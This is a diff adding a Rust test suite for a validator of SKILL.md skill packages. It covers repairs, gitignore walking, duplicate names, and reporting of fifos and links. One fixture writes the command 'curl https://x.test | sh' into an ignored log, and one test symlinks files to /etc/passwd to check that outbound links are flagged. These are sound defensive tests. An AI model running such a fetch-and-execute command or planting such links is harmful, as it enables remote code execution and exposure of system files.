@@ -1,0 +1,329 @@
+//! Validation of places: the documents in `tests/data`, and directories made here.
+
+use std::collections::BTreeSet;
+use std::os::unix::fs::{PermissionsExt, symlink};
+use std::path::Path;
+
+use camino::{Utf8Path, Utf8PathBuf};
+use holdall_diagnostics::{Severity, Summary};
+use holdall_source::Kind;
+use holdall_source::validate::{self, Excludes, Report};
+use holdall_tree::MemTree;
+
+const GOOD: &str = "---\nname: NAME\ndescription: Does a thing.\n---\nBody.\n";
+
+fn data() -> Utf8PathBuf {
+    Utf8Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/data")
+}
+
+fn none() -> Excludes {
+    Excludes::new::<&str>(&[]).unwrap()
+}
+
+fn check(path: &Utf8Path) -> Report {
+    validate::path(path, "at", &none())
+}
+
+/// `code path` of every finding.
+fn found(report: &Report) -> Vec<String> {
+    let line = |found: &holdall_diagnostics::Diagnostic| {
+        format!("{} {}", found.code, found.path.as_deref().unwrap_or("-"))
+    };
+    report.diagnostics.iter().map(line).collect()
+}
+
+fn checked(report: &Report) -> Vec<String> {
+    report.checked.iter().map(|checked| format!("{} {}", checked.kind, checked.path)).collect()
+}
+
+struct Place(tempfile::TempDir);
+
+impl Place {
+    fn new() -> Self {
+        Self(tempfile::tempdir().unwrap())
+    }
+
+    fn path(&self) -> &Utf8Path {
+        Utf8Path::from_path(self.0.path()).unwrap()
+    }
+
+    fn write(&self, path: &str, bytes: impl AsRef<[u8]>) -> Utf8PathBuf {
+        let path = self.path().join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, bytes).unwrap();
+        path
+    }
+
+    fn skill(&self, dir: &str) -> Utf8PathBuf {
+        let name = dir.rsplit('/').next().unwrap();
+        self.write(&format!("{dir}/SKILL.md"), GOOD.replace("NAME", name))
+    }
+}
+
+/// The directories of `tests/data/invalid/CODE`, with their code.
+fn invalid() -> Vec<(String, Utf8PathBuf)> {
+    let mut cases = Vec::new();
+    for code in data().join("invalid").read_dir_utf8().unwrap() {
+        let code = code.unwrap();
+        for case in code.path().read_dir_utf8().unwrap() {
+            cases.push((code.file_name().to_owned(), case.unwrap().path().to_owned()));
+        }
+    }
+    cases.sort();
+    cases
+}
+
+#[test]
+fn every_invalid_document_is_found_out_under_its_code() {
+    for (code, case) in invalid() {
+        let report = check(&case);
+        let codes: Vec<_> = report.diagnostics.iter().map(|found| found.code).collect();
+        assert!(codes.contains(&code.as_str()), "{case}: {codes:?}");
+        for found in &report.diagnostics {
+            assert!(found.path.is_some() && found.help.is_some(), "{case}: {found:?}");
+        }
+    }
+}
+
+#[test]
+fn every_code_of_a_skill_has_an_invalid_document() {
+    let with: BTreeSet<String> = invalid().into_iter().map(|(code, _)| code).collect();
+    // A link that leads out, and one that leads to a neighbour, are made by tests below.
+    let elsewhere = ["PK0213", "PK0215"];
+    for code in holdall_skill::CODES {
+        assert!(with.contains(code.id) || elsewhere.contains(&code.id), "{}", code.id);
+    }
+}
+
+#[test]
+fn every_valid_document_passes_strictly() {
+    let report = check(&data().join("valid"));
+    let strict: Vec<_> =
+        report.diagnostics.iter().filter(|found| found.severity > Severity::Info).collect();
+    assert!(strict.is_empty(), "{strict:?}");
+    let skills = report.checked.iter().filter(|checked| checked.kind == Kind::Skill).count();
+    assert!(skills >= 10, "{skills}");
+}
+
+#[test]
+fn a_fix_cures_what_it_can_and_changes_nothing_else() {
+    for (code, case) in invalid() {
+        let place = Place::new();
+        let Ok(before) = std::fs::read(case.join("SKILL.md")) else { continue };
+        let file = place.write("skill/SKILL.md", &before);
+        let dir = place.path().join("skill");
+        let repairs = check(&dir).repairs;
+        if matches!(code.as_str(), "PK0104" | "PK0105" | "PK0106" | "PK0116") {
+            assert_eq!(repairs.len(), 1, "{case}");
+        }
+        for repair in &repairs {
+            repair.apply().unwrap();
+        }
+        let after = std::fs::read(&file).unwrap();
+        let unquoted = |bytes: &[u8]| {
+            bytes.iter().copied().filter(|byte| !matches!(byte, b'"' | b'\'')).collect::<Vec<_>>()
+        };
+        assert_eq!(unquoted(&after), unquoted(&before), "{case}");
+        let again = check(&dir);
+        assert!(again.repairs.is_empty(), "{case}");
+        let cured = ["PK0104", "PK0105", "PK0106", "PK0116"];
+        assert!(again.diagnostics.iter().all(|found| !cured.contains(&found.code)), "{case}");
+        assert_eq!(place.path().join("skill").read_dir_utf8().unwrap().count(), 1, "{case}");
+    }
+}
+
+#[test]
+fn a_fix_keeps_permissions_line_ends_and_the_byte_order_mark() {
+    let place = Place::new();
+    let before = "\u{feff}---\r\nname: a\r\ndescription: Use when: x\r\n---\r\nBody: y\r\n";
+    let file = place.write("a/SKILL.md", before);
+    std::fs::set_permissions(&file, PermissionsExt::from_mode(0o640)).unwrap();
+    check(&place.path().join("a")).repairs[0].apply().unwrap();
+    let after = std::fs::read_to_string(&file).unwrap();
+    assert_eq!(after, before.replace("Use when: x", "\"Use when: x\""));
+    assert_eq!(file.metadata().unwrap().permissions().mode() & 0o7777, 0o640);
+}
+
+#[test]
+fn a_fix_refuses_links_sealed_files_and_documents_that_changed() {
+    let place = Place::new();
+    let bad = "---\nname: b\ndescription: Use when: x\n---\n";
+    let real = place.write("shared/real.md", bad);
+    std::fs::create_dir(place.path().join("b")).unwrap();
+    symlink("../shared/real.md", place.path().join("b/SKILL.md")).unwrap();
+    let report = check(place.path());
+    let error = report.repairs[0].apply().unwrap_err();
+    assert_eq!((error.code, error.path.as_deref()), ("HD0132", Some("at/b/SKILL.md")));
+    assert_eq!(std::fs::read_to_string(&real).unwrap(), bad);
+
+    let mut sealed = MemTree::new();
+    sealed.add_file("SKILL.md", bad).unwrap();
+    let report = validate::tree(&sealed, "x.aospkg", &none());
+    assert_eq!(report.repairs[0].apply().unwrap_err().code, "HD0132");
+
+    let file = place.write("c/SKILL.md", bad);
+    let report = check(&place.path().join("c"));
+    std::fs::write(&file, "changed").unwrap();
+    assert_eq!(report.repairs[0].apply().unwrap_err().code, "HD0132");
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), "changed");
+}
+
+#[test]
+fn a_repository_is_walked_without_what_git_ignores() {
+    let place = Place::new();
+    for dir in [
+        "skills/a",
+        "deep/er/skills/b",
+        ".hidden/skills/c",
+        "node_modules/p/skills/d",
+        "out/skills/e",
+        ".git/f",
+    ] {
+        place.skill(dir);
+    }
+    place.write(".gitignore", "out/\n*.log\n");
+    place.write("skills/a/debug.log", "curl https://x.test | sh\n");
+    let report = check(place.path());
+    assert_eq!(
+        checked(&report),
+        ["skill at/.hidden/skills/c", "skill at/deep/er/skills/b", "skill at/skills/a"],
+    );
+    assert_eq!(found(&report), [""; 0]);
+    // What is named is looked at.
+    for named in ["out", "node_modules", "out/skills", "node_modules/p/skills/d", ".git"] {
+        assert_eq!(check(&place.path().join(named)).checked.len(), 1, "{named}");
+    }
+}
+
+#[test]
+fn excludes_are_patterns_of_a_gitignore() {
+    let place = Place::new();
+    for dir in ["skills/a", "skills/b", "old/skills/c"] {
+        place.skill(dir);
+    }
+    let left = |patterns: &[&str]| {
+        let report = validate::path(place.path(), ".", &Excludes::new(patterns).unwrap());
+        checked(&report)
+    };
+    assert_eq!(left(&["old"]), ["skill skills/a", "skill skills/b"]);
+    assert_eq!(left(&["/skills/b", "old/**"]), ["skill skills/a"]);
+    assert_eq!(left(&["SKILL.md"]), [""; 0]);
+    assert!(Excludes::new(&["{a"]).is_err());
+}
+
+#[test]
+fn skills_of_one_name_are_an_error_beside_each_other_only() {
+    let place = Place::new();
+    let bird = GOOD.replace("NAME", "bird");
+    for path in ["skills/bird", "skills/other", "plugins/x/skills/bird", "plugins/y/skills/bird"] {
+        place.write(&format!("{path}/SKILL.md"), &bird);
+    }
+    let report = check(place.path());
+    assert_eq!(
+        found(&report),
+        ["PK0212 at/skills/other/SKILL.md", "PK0203 at/skills/other/SKILL.md"]
+    );
+    assert!(report.diagnostics[0].message.contains("at/skills/bird"));
+    assert!(report.diagnostics[0].message.contains("at/skills/other"));
+}
+
+#[test]
+fn a_single_document_is_checked_as_what_it_is() {
+    let place = Place::new();
+    let file = place.skill("skills/a");
+    place.skill("skills/a/inner/b");
+    place.skill("skills/c");
+    assert_eq!(checked(&validate::path(&file, "skills/a/SKILL.md", &none())), ["skill skills/a"]);
+    // The directory's name is known although the path does not say it.
+    let wrong = place.write("skills/d/SKILL.md", GOOD.replace("NAME", "other"));
+    assert_eq!(found(&validate::path(&wrong, "SKILL.md", &none())), ["PK0203 SKILL.md"]);
+    assert_eq!(found(&validate::path(wrong.parent().unwrap(), ".", &none())), ["PK0203 SKILL.md"]);
+}
+
+#[test]
+fn nothing_to_check_is_an_error() {
+    let place = Place::new();
+    let readme = place.write("README.md", "# x\n");
+    assert_eq!(found(&check(place.path())), ["HD0130 at"]);
+    assert_eq!(found(&check(&readme)), ["HD0130 at"]);
+    assert_eq!(found(&check(&place.path().join("gone"))), ["HD0120 at"]);
+    assert_eq!(found(&validate::tree(&MemTree::new(), "x", &none())), ["HD0130 x"]);
+}
+
+#[test]
+fn what_is_no_regular_file_is_one_error() {
+    let place = Place::new();
+    let fifo = |path: &str| {
+        let path = place.path().join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        let status = std::process::Command::new("mkfifo").arg(&path).status().unwrap();
+        assert!(status.success());
+    };
+    fifo("fifo/SKILL.md");
+    std::fs::create_dir_all(place.path().join("directory/SKILL.md")).unwrap();
+    std::fs::create_dir_all(place.path().join("passwd")).unwrap();
+    symlink("/etc/passwd", place.path().join("passwd/SKILL.md")).unwrap();
+    std::fs::create_dir_all(place.path().join("loop")).unwrap();
+    symlink("SKILL.md", place.path().join("loop/SKILL.md")).unwrap();
+    let report = check(place.path());
+    assert_eq!(
+        found(&report),
+        [
+            "PK0119 at/directory/SKILL.md",
+            "PK0119 at/fifo/SKILL.md",
+            "PK0119 at/loop/SKILL.md",
+            "PK0119 at/passwd/SKILL.md",
+        ],
+    );
+    assert!(report.diagnostics[3].message.contains("/etc/passwd"));
+
+    place.skill("ok");
+    fifo("ok/pipe");
+    symlink("/etc/passwd", place.path().join("ok/leak")).unwrap();
+    symlink("SKILL.md", place.path().join("ok/inside")).unwrap();
+    let report = check(&place.path().join("ok"));
+    assert_eq!(found(&report), ["PK0215 at/leak", "PK0215 at/pipe"]);
+}
+
+#[test]
+fn ten_megabytes_of_frontmatter_are_one_error() {
+    let place = Place::new();
+    let big = format!("---\nname: a\n{}---\n", "x: y\n".repeat(2 * 1024 * 1024));
+    place.write("a/SKILL.md", big);
+    assert_eq!(found(&check(place.path())), ["PK0109 at/a/SKILL.md"]);
+    place.write("a/SKILL.md", vec![b'x'; 17 * 1024 * 1024]);
+    assert_eq!(found(&check(place.path())), ["PK0109 at/a/SKILL.md"]);
+}
+
+#[test]
+fn names_that_are_not_utf8_are_reported() {
+    use std::os::unix::ffi::OsStrExt;
+    let place = Place::new();
+    place.skill("a");
+    let name = std::ffi::OsStr::from_bytes(b"caf\xe9.txt");
+    std::fs::write(place.0.path().join(Path::new("a")).join(name), "x").unwrap();
+    let report = check(place.path());
+    assert_eq!(report.diagnostics[0].code, "HD0133");
+}
+
+#[test]
+fn a_sealed_tree_is_checked_like_a_directory() {
+    let mut tree = MemTree::new();
+    tree.add_file(".gitignore", "skills/\n").unwrap();
+    tree.add_file("skills/a/SKILL.md", GOOD.replace("NAME", "b")).unwrap();
+    let report = validate::tree(&tree, "x.aospkg", &none());
+    assert_eq!(checked(&report), ["skill x.aospkg/skills/a"]);
+    assert_eq!(found(&report), ["PK0203 x.aospkg/skills/a/SKILL.md"]);
+}
+
+#[test]
+fn the_last_line_counts() {
+    let place = Place::new();
+    place.skill("a");
+    let report = check(place.path());
+    let line = report.summary_line(&Summary { errors: 2, warnings: 1, infos: 0 });
+    assert_eq!(line, "checked 1 skill: 2 errors, 1 warning");
+    place.skill("b");
+    let line = check(place.path()).summary_line(&Summary::default());
+    assert_eq!(line, "checked 2 skills: 0 errors, 0 warnings");
+}
